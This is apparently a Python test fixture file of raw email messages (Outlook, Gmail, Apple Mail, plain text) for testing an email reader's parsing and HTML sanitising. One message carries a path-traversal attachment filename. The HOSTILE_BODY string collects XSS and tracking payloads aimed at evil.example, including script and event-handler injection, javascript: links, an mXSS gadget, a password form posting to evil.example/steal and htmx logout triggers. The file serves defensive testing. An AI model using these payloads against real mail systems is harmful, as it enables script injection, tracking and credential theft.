"""Real-world-shaped email for reading tests: what Outlook, Gmail, Apple Mail and plain
clients write when they reply, and an HTML message full of injection attempts."""

from __future__ import annotations

OUTLOOK_HTML = (
    b"From: Dana Client <dana@acme.example>\r\n"
    b"To: Alice Owner <alice@firm.example>\r\n"
    b"CC: Procurement <buying@acme.example>\r\n"
    b"Subject: RE: Launch date\r\n"
    b"Date: Tue, 7 Jul 2026 08:30:00 +0000\r\n"
    b"Message-ID: <AM0PR01MB9999@AM0PR01MB9999.eurprd01.prod.outlook.com>\r\n"
    b"In-Reply-To: <CAF=q8x+Yh7kE2mZ@mail.gmail.com>\r\n"
    b"Thread-Topic: Launch date\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/alternative; boundary="_000_AM0PR_"\r\n'
    b"\r\n"
    b"--_000_AM0PR_\r\n"
    b'Content-Type: text/plain; charset="windows-1252"\r\n'
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"Alice,\r\n\r\nThe call did not happen. We are still waiting =96 this is not acceptable.\r\n"
    b"\r\nDana\r\n\r\n"
    b"-----Original Message-----\r\n"
    b"From: Alice Owner <alice@firm.example>\r\n"
    b"Sent: Monday, July 6, 2026 10:02 AM\r\n"
    b"To: Dana Client <dana@acme.example>\r\n"
    b"Subject: Re: Launch date\r\n\r\n"
    b"I will call at 2pm.\r\n"
    b"\r\n--_000_AM0PR_\r\n"
    b'Content-Type: text/html; charset="windows-1252"\r\n'
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b'<html xmlns:o=3D"urn:schemas-microsoft-com:office:office"><head>\r\n'
    b'<meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3Dwindows-1252">\r\n'
    b"<style><!--\r\np.MsoNormal {margin:0cm; font-family:Calibri}\r\n--></style>\r\n"
    b'<!--[if gte mso 9]><xml><o:shapedefaults v:ext=3D"edit" spidmax=3D"1026" />'
    b"</xml><![endif]-->\r\n"
    b'</head><body lang=3D"EN-GB" link=3D"#0563C1"><div class=3D"WordSection1">\r\n'
    b'<p class=3D"MsoNormal">Alice,<o:p></o:p></p>\r\n'
    b'<p class=3D"MsoNormal">The call did not happen. We are still waiting =96 this is n=\r\n'
    b"ot acceptable.<o:p></o:p></p>\r\n"
    b'<p class=3D"MsoNormal">Dana<o:p></o:p></p>\r\n'
    b'<div style=3D"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">\r\n'
    b'<p class=3D"MsoNormal"><b>From:</b> Alice Owner &lt;alice@firm.example&gt; <br>\r\n'
    b"<b>Sent:</b> Monday, July 6, 2026 10:02 AM<br>\r\n"
    b"<b>To:</b> Dana Client &lt;dana@acme.example&gt;<br>\r\n"
    b"<b>Subject:</b> Re: Launch date<o:p></o:p></p></div>\r\n"
    b'<p class=3D"MsoNormal">I will call at 2pm.<o:p></o:p></p>\r\n'
    b"</div></body></html>\r\n"
    b"\r\n--_000_AM0PR_--\r\n"
)

GMAIL_HTML = (
    b"MIME-Version: 1.0\n"
    b"Date: Wed, 8 Jul 2026 09:00:00 +0100\n"
    b"References: <AM0PR01MB9999@AM0PR01MB9999.eurprd01.prod.outlook.com>\n"
    b"In-Reply-To: <AM0PR01MB9999@AM0PR01MB9999.eurprd01.prod.outlook.com>\n"
    b"Message-ID: <CAGmail-2@mail.gmail.com>\n"
    b"Subject: Re: Launch date\n"
    b"From: Dana Client <dana@acme.example>\n"
    b"To: Alice Owner <alice@firm.example>\n"
    b'Content-Type: multipart/alternative; boundary="000000000000b2"\n'
    b"\n"
    b"--000000000000b2\n"
    b'Content-Type: text/plain; charset="UTF-8"\n'
    b"\n"
    b"Thanks for the call. The new date works for us.\n"
    b"\n"
    b"-- \n"
    b"Dana Client\n"
    b"Marketing director, Acme\n"
    b"\n"
    b"On Tue, 7 Jul 2026 at 12:00, Alice Owner <alice@firm.example> wrote:\n"
    b"> Can we agree on the 20th?\n"
    b"\n"
    b"--000000000000b2\n"
    b'Content-Type: text/html; charset="UTF-8"\n'
    b"Content-Transfer-Encoding: quoted-printable\n"
    b"\n"
    b'<div dir=3D"ltr"><div>Thanks for the call. The new date works for us.</div>'
    b'<br clear=3D"all"><div><br></div><span class=3D"gmail_signature_prefix">-- </span><br>'
    b'<div dir=3D"ltr" class=3D"gmail_signature"><div dir=3D"ltr">Dana Client<div>Marketin=\n'
    b"g director, Acme</div></div></div></div><br>"
    b'<div class=3D"gmail_quote gmail_quote_container"><div dir=3D"ltr" class=3D"gmail_attr">'
    b'On Tue, 7 Jul 2026 at 12:00, Alice Owner &lt;<a href=3D"mailto:alice@firm.example">'
    b"alice@firm.example</a>&gt; wrote:<br></div>"
    b'<blockquote class=3D"gmail_quote" style=3D"margin:0px 0px 0px 0.8ex;border-left:1px sol=\n'
    b'id rgb(204,204,204);padding-left:1ex">Can we agree on the 20th?</blockquote></div>\n'
    b"\n"
    b"--000000000000b2--\n"
)

APPLE_CITE = (
    b"From: Dana Client <dana@acme.example>\n"
    b'Content-Type: multipart/alternative; boundary="Apple-Mail=_1"\n'
    b"Mime-Version: 1.0 (Mac OS X Mail 16.0)\n"
    b"Subject: Re: Proofs\n"
    b"Date: Thu, 9 Jul 2026 16:40:22 +0200\n"
    b"Message-Id: <APPLE-1@acme.example>\n"
    b"To: Alice Owner <alice@firm.example>\n"
    b"\n"
    b"--Apple-Mail=_1\n"
    b"Content-Type: text/plain; charset=utf-8\n"
    b"\n"
    b"The proofs are fine except page 3.\n"
    b"\n"
    b"> On 9 Jul 2026, at 10:00, Alice Owner <alice@firm.example> wrote:\n"
    b">\n"
    b"> Here are the proofs.\n"
    b"\n"
    b"--Apple-Mail=_1\n"
    b"Content-Type: text/html; charset=utf-8\n"
    b"\n"
    b'<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
    b'<body style="word-wrap: break-word;"><div>The proofs are fine except page 3.</div>'
    b'<div><br><blockquote type="cite"><div>On 9 Jul 2026, at 10:00, Alice Owner '
    b"&lt;alice@firm.example&gt; wrote:</div><br><div><div>Here are the proofs.</div></div>"
    b"</blockquote></div><br></body></html>\n"
    b"--Apple-Mail=_1--\n"
)

PLAIN_QUOTED = (
    b"From: dana@acme.example\n"
    b"To: alice@firm.example\n"
    b"Subject: Re: Invoice\n"
    b"Date: Fri, 10 Jul 2026 11:00:00 +0000\n"
    b"Message-ID: <plain-quoted-1@acme.example>\n"
    b"\n"
    b"Nobody told us the invoice would double.\n"
    b"Please explain before Friday.\n"
    b"\n"
    b"On Thu, 9 Jul 2026, Alice Owner wrote:\n"
    b"> Here is the invoice.\n"
    b">\n"
    b"> Alice\n"
)

PLAIN_INTERLEAVED = (
    b"From: dana@acme.example\n"
    b"To: alice@firm.example\n"
    b"Subject: Re: Questions\n"
    b"Date: Fri, 10 Jul 2026 12:00:00 +0000\n"
    b"Message-ID: <plain-interleaved-1@acme.example>\n"
    b"\n"
    b"> Is the 20th fine?\n"
    b"Yes, the 20th is fine.\n"
    b"> And the budget?\n"
    b"The budget is not fine.\n"
)

WRONG_CHARSET_HTML = (
    b"From: dana@acme.example\n"
    b"To: alice@firm.example\n"
    b"Subject: R\xe9sum\xe9\n"
    b"Date: Fri, 10 Jul 2026 13:00:00 +0000\n"
    b"Message-ID: <wrong-charset-html@acme.example>\n"
    b"MIME-Version: 1.0\n"
    b"Content-Type: text/html; charset=utf-8\n"
    b"Content-Transfer-Encoding: 8bit\n"
    b"\n"
    b"<p>The invoice says \xa31,200 for the r\xe9sum\xe9 work.</p>\n"
)

MISSING_CHARSET = (
    b"From: dana@acme.example\n"
    b"To: alice@firm.example\n"
    b"Subject: No charset\n"
    b"Date: Fri, 10 Jul 2026 13:05:00 +0000\n"
    b"Message-ID: <missing-charset@acme.example>\n"
    b"Content-Type: text/plain\n"
    b"\n"
    b"Caf\xe9 au lait.\n"
)

NESTED_WITH_ATTACHMENTS = (
    b"From: Dana Client <dana@acme.example>\n"
    b"To: alice@firm.example\n"
    b"Subject: Contract and forwarded thread\n"
    b"Date: Fri, 10 Jul 2026 12:00:00 +0000\n"
    b"Message-ID: <nested-messages-1@acme.example>\n"
    b"MIME-Version: 1.0\n"
    b'Content-Type: multipart/mixed; boundary="outer"\n'
    b"\n"
    b"--outer\n"
    b'Content-Type: multipart/related; boundary="related"\n'
    b"\n"
    b"--related\n"
    b'Content-Type: multipart/alternative; boundary="alt"\n'
    b"\n"
    b"--alt\n"
    b"Content-Type: text/plain; charset=us-ascii\n"
    b"\n"
    b"See the signed contract attached.\n"
    b"--alt\n"
    b"Content-Type: text/html; charset=us-ascii\n"
    b"\n"
    b'<p>See the signed contract attached.</p><img src="cid:logo@acme" alt="Acme logo">\n'
    b"--alt--\n"
    b"--related\n"
    b"Content-Type: image/png\n"
    b"Content-ID: <logo@acme>\n"
    b"Content-Transfer-Encoding: base64\n"
    b"\n"
    b"iVBORw0KGgo=\n"
    b"--related--\n"
    b"--outer\n"
    b'Content-Type: text/html; name="invoice.html"\n'
    b'Content-Disposition: attachment; filename="../../evil\\"; name=.html"\n'
    b"\n"
    b"<script>alert('attached')</script>\n"
    b"--outer\n"
    b'Content-Type: application/pdf; name="contract.pdf"\n'
    b'Content-Disposition: attachment; filename="contract.pdf"\n'
    b"Content-Transfer-Encoding: base64\n"
    b"\n"
    b"JVBERi0xLjQKJcfsj6IKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+PgplbmRvYmoK\n"
    b"--outer\n"
    b"Content-Type: message/rfc822\n"
    b"\n"
    b"From: someone@else.example\n"
    b"Subject: Inner message\n"
    b"\n"
    b"This inner text is not the body.\n"
    b"--outer--\n"
)

# Every way an HTML email might try to run code, load something or phone home.
HOSTILE_BODY = (
    "<html><head>"
    '<base href="http://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">'
    '<link rel="stylesheet" href="http://evil.example/style.css">'
    "<style>body{background:url(http://evil.example/bg.png)} p{color:red}</style>"
    "<script>window.__pwned = 'script'; document.title = 'PWNED';</script>"
    "<title>PWNED title</title>"
    "</head><body onload=\"window.__pwned='onload'\">"
    "<p>Please see the invoice questions below.</p>"
    "<p style=\"background-image:url('http://evil.example/style-attr.png')\">Styled</p>"
    '<img src="http://evil.example/track.gif?u=alice" alt="tracking pixel" width="1" height="1">'
    '<img src="https://evil.example/logo.png" onerror="window.__pwned=\'onerror\'">'
    '<img src="x" onerror="window.__pwned=\'onerror2\'">'
    '<img srcset="http://evil.example/srcset.png 2x">'
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'
    "<a href=\"javascript:window.__pwned='href'\">click me</a> "
    '<a href="JaVaScRiPt:alert(1)">again</a> '
    '<a href="data:text/html,<script>alert(1)</script>">data link</a> '
    '<a href="https://example.org/safe">a safe link</a> '
    '<a href="/accounts/logout/">relative</a>'
    # htmx would act on these if they reached the page (the page loads htmx).
    '<div hx-post="/accounts/logout/" hx-trigger="load" data-hx-get="/accounts/logout/"'
    ' data-hx-trigger="load">htmx bait</div>'
    '<iframe src="http://evil.example/frame"></iframe>'
    '<object data="http://evil.example/object.swf"></object>'
    '<embed src="http://evil.example/embed.swf">'
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=\'svg\'">'
    "<script>window.__pwned='svg script'</script>"
    '<image href="http://evil.example/svg-image.png"/></svg>'
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">"
    "</style></mglyph></table></mtext></math>"
    '<form action="http://evil.example/steal" method="post"><input name="password">'
    '<button formaction="javascript:alert(1)">Go</button></form>'
    '<video poster="http://evil.example/poster.png"><source src="http://evil.example/v.mp4">'
    "</video>"
    '<audio src="http://evil.example/a.mp3"></audio>'
    '<table background="http://evil.example/table-bg.png"><tr><td>cell</td></tr></table>'
    '<div id="main" name="csrf_token">clobber</div>'
    "<noscript><img src=http://evil.example/noscript.png></noscript>"
    "<template><script>window.__pwned='template'</script></template>"
    "<div onclick=\"window.__pwned='click'\" onmouseover=\"window.__pwned='over'\">"
    "Hover here</div>"
    "</body></html>"
)

HOSTILE_HTML = (
    b"From: Dana Client <dana@acme.example>\n"
    b"To: alice@firm.example\n"
    b"Subject: Invoice questions\n"
    b"Date: Fri, 10 Jul 2026 14:00:00 +0000\n"
    b"Message-ID: <hostile-html-1@acme.example>\n"
    b"MIME-Version: 1.0\n"
    b"Content-Type: text/html; charset=utf-8\n"
    b"\n" + HOSTILE_BODY.encode() + b"\n"
)
